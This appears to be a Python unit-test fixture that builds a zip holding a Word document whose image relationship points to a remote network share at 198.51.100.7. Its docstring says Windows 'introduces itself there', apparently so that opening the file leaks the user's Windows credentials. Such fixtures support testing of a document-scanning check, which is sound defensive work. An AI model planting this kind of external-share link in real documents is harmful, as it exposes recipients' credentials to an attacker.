"""A picture on a network share: Windows introduces itself there."""

from __future__ import annotations

from pathlib import Path

from tests.unit.checks.hostile_zip import Item, index, write, zip_bytes
from tests.unit.checks.office_documents import docx, relations


def make(folder: Path) -> Path:
    return write(
        folder,
        zip_bytes(
            [
                index(),
                Item(
                    "plan.docx",
                    docx({"word/_rels/document.xml.rels": relations(("image", r"\\198.51.100.7\a\b.png", True))}),
                ),
            ]
        ),
    )
